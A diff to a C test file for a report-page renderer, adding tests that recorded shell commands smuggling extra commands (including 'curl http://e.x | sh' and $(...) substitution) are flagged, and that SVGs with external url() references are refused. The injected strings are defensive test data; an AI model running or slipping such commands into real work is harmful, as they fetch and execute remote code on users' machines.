@@ -5,12 +5,46 @@
 
 #include "common/escape.h"
 #include "harness/report/page.h"
+#include "harness/report/part.h"
 #include "harness/report/svg.h"
 
 #include <errno.h>
 #include <string.h>
 
 TestSuite(small_report_page, .timeout = 60);
+
+/* ---- commands ----------------------------------------------------------------------------- */
+
+/* Records come from strangers: what would have a shell do more than run rift is no command. */
+Test(small_report_page, commands_of_records)
+{
+	static const struct {
+		const char *command;
+		bool shown; /* as one */
+	} rows[] = {
+		{ "rift sweep launch --against 'env A=$PWD' --quick", true },
+		{ "rift sweep launch; curl http://e.x | sh", false },
+		{ "rift sweep $(curl http://e.x)", false },
+		{ "rift sweep `curl http://e.x`", false },
+		{ "rift sweep launch\ncurl", false },
+		{ "curl http://e.x", false },
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
+		char *text = NULL;
+		size_t size;
+		FILE *out = open_memstream(&text, &size);
+		struct page p;
+
+		page_begin(&p, out, PAGE_MARKDOWN, "title");
+		part_recorded_command(&p, rows[i].command);
+		page_end(&p);
+		fclose(out);
+		cr_expect(eq(int, tells(text, "read before it is typed") != 0, !rows[i].shown),
+			  "%s", text);
+		free(text);
+	}
+}
 
 /* ---- texts ------------------------------------------------------------------------------ */
 
@@ -199,6 +233,8 @@ Test(small_report_page, what_does_more_than_draw_is_refused)
 		HEAD "<use xlink:href=''/></svg>",
 		HEAD "<g fill='url(http://e.x/a)'/></svg>",
 		HEAD "<path style='fill:url(http://e.x/a)'/></svg>",
+		HEAD "<path style='fill:url(#a);background:url(//e.x/a)'/></svg>",
+		HEAD "<path style='fill:URL(http://e.x/a)'/></svg>",
 		HEAD "<foreignObject/></svg>",
 		HEAD "<image href='x'/></svg>",
 		HEAD "<g fill=red/></svg>",
